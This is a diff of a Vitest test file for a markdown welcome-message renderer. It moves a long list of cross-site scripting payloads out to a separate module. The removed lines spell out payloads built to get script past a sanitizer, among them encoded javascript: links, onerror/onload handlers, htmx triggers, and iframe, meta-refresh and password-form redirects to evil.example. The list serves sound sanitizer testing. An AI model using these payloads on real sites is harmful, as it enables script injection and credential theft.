@@ -1,6 +1,7 @@
 import spec from 'commonmark-spec'
 import { describe, expect, it } from 'vitest'
 import { welcomeHtml } from '#src/branding/welcome.ts'
+import { ATTEMPTS } from './attempts.ts'
 
 /** The welcome message, held against CommonMark's own examples and against what people try in order to run a script. */
 
@@ -81,75 +82,8 @@ const faultsOf = (html: string): string[] => {
 }
 
 describe('what is meant to run', () => {
-  const SCHEMES = [
-    'javascript:alert(1)',
-    'JaVaScRiPt:alert(1)',
-    'vbscript:msgbox(1)',
-    'data:text/html,<script>alert(1)</script>',
-    'data:image/svg+xml,x',
-    'file:///etc/passwd',
-    'blob:https://x/1',
-    '//evil.example',
-    '/invoices',
-    'java&#x0A;script:alert(1)',
-    'java&Tab;script:alert(1)',
-    '&#106;avascript:alert(1)',
-    '&#x6A&#x61;vascript:alert(1)',
-    'javascript&colon;alert(1)',
-    '%6Aavascript:alert(1)',
-    '\u0001javascript:alert(1)',
-    'feed:javascript:alert(1)',
-    'view-source:https://x.example',
-  ]
-  const CASES = [
-    ...SCHEMES.map((address) => `[a](${address})`),
-    ...SCHEMES.map((address) => `[a](<${address}>)`),
-    ...SCHEMES.map((address) => `<${address}>`),
-    ...SCHEMES.map((address) => `![a](${address})`),
-    ...SCHEMES.map((address) => `[a][b]\n\n[b]: ${address}`),
-    '<script>alert(1)</script>',
-    '<img src=x onerror=alert(1)>',
-    '<svg onload=alert(1)>',
-    '<a href="javascript:alert(1)">x</a>',
-    '<div hx-get="/account" hx-trigger="load">x</div>',
-    '<div data-hx-on:load="alert(1)">x</div>',
-    '<style>*{display:none}</style>',
-    '<iframe src="https://evil.example"></iframe>',
-    '<base href="https://evil.example/">',
-    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-    '<form action="https://evil.example"><input name=password></form>',
-    '<!--><script>alert(1)</script-->',
-    '<![CDATA[<script>alert(1)</script>]]>',
-    '<?php echo 1 ?>',
-    '![x](https://evil.example/pixel.gif)',
-    '![x][p]\n\n[p]: https://evil.example/pixel.gif',
-    '[![x](https://evil.example/pixel.gif)](https://x.example)',
-    '[x](https://x.example "onmouseover=alert(1)")',
-    '[x](https://x.example "\\"><script>alert(1)</script>")',
-    '[x](https://x.example\\"onclick=alert(1))',
-    '[x](https://x.example/"onclick="alert(1))',
-    '[<script>alert(1)</script>](https://x.example)',
-    '[a [b](https://b.example)](javascript:alert(1))',
-    '`<script>alert(1)</script>`',
-    '```"><script>alert(1)</script>\nx\n```',
-    '```html onload=alert(1)\nx\n```',
-    '    <script>alert(1)</script>',
-    '# <img src=x onerror=alert(1)>',
-    '> <svg/onload=alert(1)>',
-    '* <details open ontoggle=alert(1)>',
-    '<https://x.example/"onclick=alert(1)>',
-    '<mailto:a@b.example"onclick=alert(1)>',
-    '[x](mailto:"><script>alert(1)</script>@b.example)',
-    '\\<script>alert(1)\\</script>',
-    '&lt;script&gt;alert(1)&lt;/script&gt;',
-    '&#60;script&#62;alert(1)&#60;/script&#62;',
-    '</div></main><script>alert(1)</script>',
-    '<x\n onclick=alert(1)>',
-    '\u2028<script>alert(1)</script>',
-  ]
-
-  it('is tried in many ways', () => expect(CASES.length).toBeGreaterThan(120))
-  it.each(CASES)('%j', (markdown) => expect(faultsOf(welcomeHtml(markdown))).toEqual([]))
+  it('is tried in many ways', () => expect(ATTEMPTS.length).toBeGreaterThan(120))
+  it.each(ATTEMPTS)('%j', (markdown) => expect(faultsOf(welcomeHtml(markdown))).toEqual([]))
 
   it('is found by this test, if it were let through', () => {
     for (const html of [
